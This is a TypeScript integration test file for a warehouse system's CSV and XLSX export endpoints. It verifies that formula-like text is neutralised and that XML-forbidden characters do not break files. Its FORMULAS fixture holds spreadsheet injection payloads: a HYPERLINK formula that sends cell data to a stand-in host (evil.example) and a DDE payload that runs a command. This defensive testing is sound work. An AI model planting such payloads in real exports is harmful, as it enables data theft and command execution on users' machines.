import ExcelJS from 'exceljs';
import request from 'supertest';
import { parseCsv } from '../../src/modules/master-data/transfer/spreadsheet-reader';
import { TestApp } from '../setup/create-test-app';
import { Session } from '../support/api';
import { Client, smallWarehouse, stockUp, Warehouse } from '../support/warehouse';
import { adminSpec } from '../support/admin-spec';

/**
 * What every export writes into a cell. CSV: text that a spreadsheet program would run as a formula
 * (= + - @, tab, CR first) gets a leading `'`, decided by the column's type — numbers, negative ones too,
 * stay numbers. XLSX: such text is a string cell, never a formula, and characters XML 1.0 forbids never
 * make the file unreadable.
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
const XML_FORBIDDEN = 'Bad\uFFFF\uFFFE\u0001\u0008\u000B\u001F\uD800 name';

const binary = (res: request.Response, callback: (error: Error | null, body: Buffer) => void) => {
  const parts: Buffer[] = [];
  res.on('data', (chunk: Buffer) => parts.push(chunk));
  res.on('end', () => callback(null, Buffer.concat(parts)));
};

describe('export cells: formula injection and XML-forbidden characters', () => {
  let t: TestApp;
  let root: Session;
  let c: Client;
  let w: Warehouse;

  const get = (url: string) => request(t.app.getHttpServer()).get(url).set('batoken', root.token).set('think-lang', 'en');
  const csvRows = async (url: string) => {
    const res = await get(url);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    return parseCsv(res.text.replace(/^\uFEFF/, '')).map((r) => r.cells);
  };
  const workbook = async (url: string) => {
    const res = await get(url).buffer(true).parse(binary);
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as unknown as ArrayBuffer);
    return book.worksheets[0];
  };

  adminSpec({ warehouse: smallWarehouse, reset: 'once', ready: (fixture) => ({ t, session: root, c, w } = fixture) });
  beforeAll(async () => {
    // a product whose name and code look like formulas, and one with characters XML forbids
    await t.dataSource.query('UPDATE product SET name = ?, spec = ? WHERE id = ?', ['=1+2', '-5', w.products[0].id]);
    await t.dataSource.query('UPDATE product SET name = ? WHERE id = ?', [XML_FORBIDDEN.replace('\uD800', ''), w.products[1].id]);
    // (the form trims names; a leading tab or CR can still come from elsewhere, so it is written directly)
    for (const [i, name] of FORMULAS.entries()) {
      const brand = await c.add('Brand', { name: `brand ${i}` });
      await t.dataSource.query('UPDATE brand SET name = ? WHERE id = ?', [name, brand.id]);
    }
    await stockUp(c, w, [{ product: 0, shelf: 0, quantity: 10, price: '2.50' }]);
    const out = await c.add('Outbound', { customer_id: w.customer.id, type: 10, lines: [{ product_id: w.products[0].id, warehouse_shelf_id: w.shelves[0].id, plan_quantity: 5, actual_quantity: 5, price: '3.00' }] });
    await c.post('Outbound', 'audit', { id: out.id });
  });

  it('master data CSV: every formula-like text cell is neutralised, numbers are not', async () => {
    const rows = await csvRows('/admin/wms.Brand/export?format=csv');
    const names = rows.slice(1).map((r) => r[1]);
    expect(names.sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    // id and weigh are number columns: written as numbers
    for (const row of rows.slice(1)) expect(row[0]).toMatch(/^\d+$/);
    const products = await csvRows('/admin/wms.Product/export?format=csv');
    const p1 = products.find((r) => r.includes("'=1+2"))!;
    expect(p1).toContain("'-5"); // spec is text, even when it looks like a number
    expect(p1).toContain('2.50'); // price is a number column
  });

  it('history CSV: a negative quantity stays a number, the copied product name is neutralised', async () => {
    const [header, ...rows] = await csvRows('/admin/wms.InventoryHistory/export');
    const q = header.indexOf('Change');
    const name = header.indexOf('Product');
    expect(rows.map((r) => r[q]).sort()).toEqual(['-5', '10']);
    expect(new Set(rows.map((r) => r[name]))).toEqual(new Set(["'=1+2"]));
    const spec = header.indexOf('Spec');
    expect(rows.every((r) => r[spec] === "'-5")).toBe(true);
  });

  it('stock CSV: the name is neutralised, the quantity is a number', async () => {
    const [header, ...rows] = await csvRows('/admin/wms.Stock/export');
    expect(rows).toHaveLength(1);
    expect(rows[0][header.indexOf('Product')]).toBe("'=1+2");
    expect(rows[0][header.indexOf('On hand')]).toBe('5');
  });

  it('XLSX: formula-like text is a string cell, never a formula; numbers stay numbers', async () => {
    const sheet = await workbook('/admin/wms.Brand/export?format=xlsx');
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row, number) => number > 1 && cells.push(row.getCell(2)));
    expect(cells.map((cell) => cell.type)).toEqual(cells.map(() => ExcelJS.ValueType.String));
    // (an XML parser reads a raw CR as LF: the text is the same otherwise)
    expect(cells.map((cell) => cell.value).sort()).toEqual(FORMULAS.map((f) => f.replace(/\r/g, '\n')).sort());
    expect(sheet.getRow(2).getCell(1).type).toBe(ExcelJS.ValueType.Number);
  });

  it('XLSX: a stored U+FFFF, lone surrogate or C0 control does not break the file', async () => {
    // the lone surrogate cannot pass through the database driver as UTF-8, so it is checked on an export of
    // a name that holds it through the shared cell function (see the unit spec); here the stored ones
    const sheet = await workbook('/admin/wms.Product/export?format=xlsx');
    const names: string[] = [];
    sheet.eachRow((row, number) => number > 1 && names.push(String(row.getCell(4).value)));
    expect(names).toContain('Bad\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD\uFFFD name');
  });

  it('stock and history XLSX: quantities, prices and balances are numeric cells, names are strings', async () => {
    const history = await workbook('/admin/wms.InventoryHistory/export?format=xlsx');
    const header = (history.getRow(1).values as unknown[]).map(String);
    const col = (name: string) => header.indexOf(name);
    const changes: unknown[] = [];
    history.eachRow((row, number) => {
      if (number === 1) return;
      changes.push(row.getCell(col('Change')).value);
      for (const name of ['Change', 'Unit price', 'Amount', 'Balance']) expect(row.getCell(col(name)).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(col('Product')).type).toBe(ExcelJS.ValueType.String);
    });
    expect(changes.sort()).toEqual([-5, 10]);
    const stock = await workbook('/admin/wms.Stock/export?format=xlsx');
    const stockHeader = (stock.getRow(1).values as unknown[]).map(String);
    expect(stock.getRow(2).getCell(stockHeader.indexOf('On hand')).value).toBe(5);
    expect(stock.getRow(2).getCell(stockHeader.indexOf('Product')).value).toBe('=1+2');
  });

  it('XLSX money: prices and amounts are numeric cells in a two-decimal format (2.50, not 2.5), CSV writes 2.50', async () => {
    const history = await workbook('/admin/wms.InventoryHistory/export?format=xlsx');
    const header = (history.getRow(1).values as unknown[]).map(String);
    const money: Array<[unknown, unknown]> = [];
    history.eachRow((row, number) => {
      if (number === 1) return;
      for (const name of ['Unit price', 'Amount']) {
        const cell = row.getCell(header.indexOf(name));
        expect(cell.type).toBe(ExcelJS.ValueType.Number);
        expect(cell.numFmt).toBe('0.00');
        money.push([name, cell.value]);
      }
      // a quantity is a plain number, not money
      expect(row.getCell(header.indexOf('Change')).numFmt).not.toBe('0.00');
    });
    expect(money.sort()).toEqual(
      [
        ['Amount', -15],
        ['Amount', 25],
        ['Unit price', 2.5],
        ['Unit price', 3],
      ].sort(),
    );
    const products = await workbook('/admin/wms.Product/export?format=xlsx');
    const productHeader = (products.getRow(1).values as unknown[]).map(String);
    const price = products.getRow(2).getCell(productHeader.indexOf('Unit price'));
    expect([price.type, price.numFmt]).toEqual([ExcelJS.ValueType.Number, '0.00']);
    const [csvHeader, ...rows] = await csvRows('/admin/wms.InventoryHistory/export');
    expect(rows.map((r) => r[csvHeader.indexOf('Unit price')]).sort()).toEqual(['2.50', '3.00']);
  });
});
